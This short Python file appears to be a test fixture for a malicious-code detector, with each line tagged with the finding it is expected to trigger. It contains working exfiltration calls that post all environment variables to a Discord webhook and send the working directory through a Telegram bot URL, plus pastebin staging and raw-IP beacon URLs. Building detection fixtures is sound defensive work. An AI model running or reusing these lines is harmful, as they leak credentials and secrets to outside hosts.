# ruff: noqa
# fmt: off
"""Stolen data posted to chat webhooks, paste sites and raw IPs."""
import os

import requests

HOOK = "https://discord.com/api/webhooks/1234567890/abcdefghijklmnop"  # expect: suspicious-url
requests.post(HOOK, json={"content": str(os.environ)}, timeout=3)  # expect: exfiltrate-sensitive-data, env-dump

STAGE = "https://pastebin.com/raw/Xy12Ab34"  # expect: suspicious-url
C2 = "http://45.33.32.156:8080/beacon"  # expect: raw-ip-url
requests.get(f"https://api.telegram.org/bot123:AAE/sendMessage?text={os.getcwd()}", timeout=3)  # expect: suspicious-url
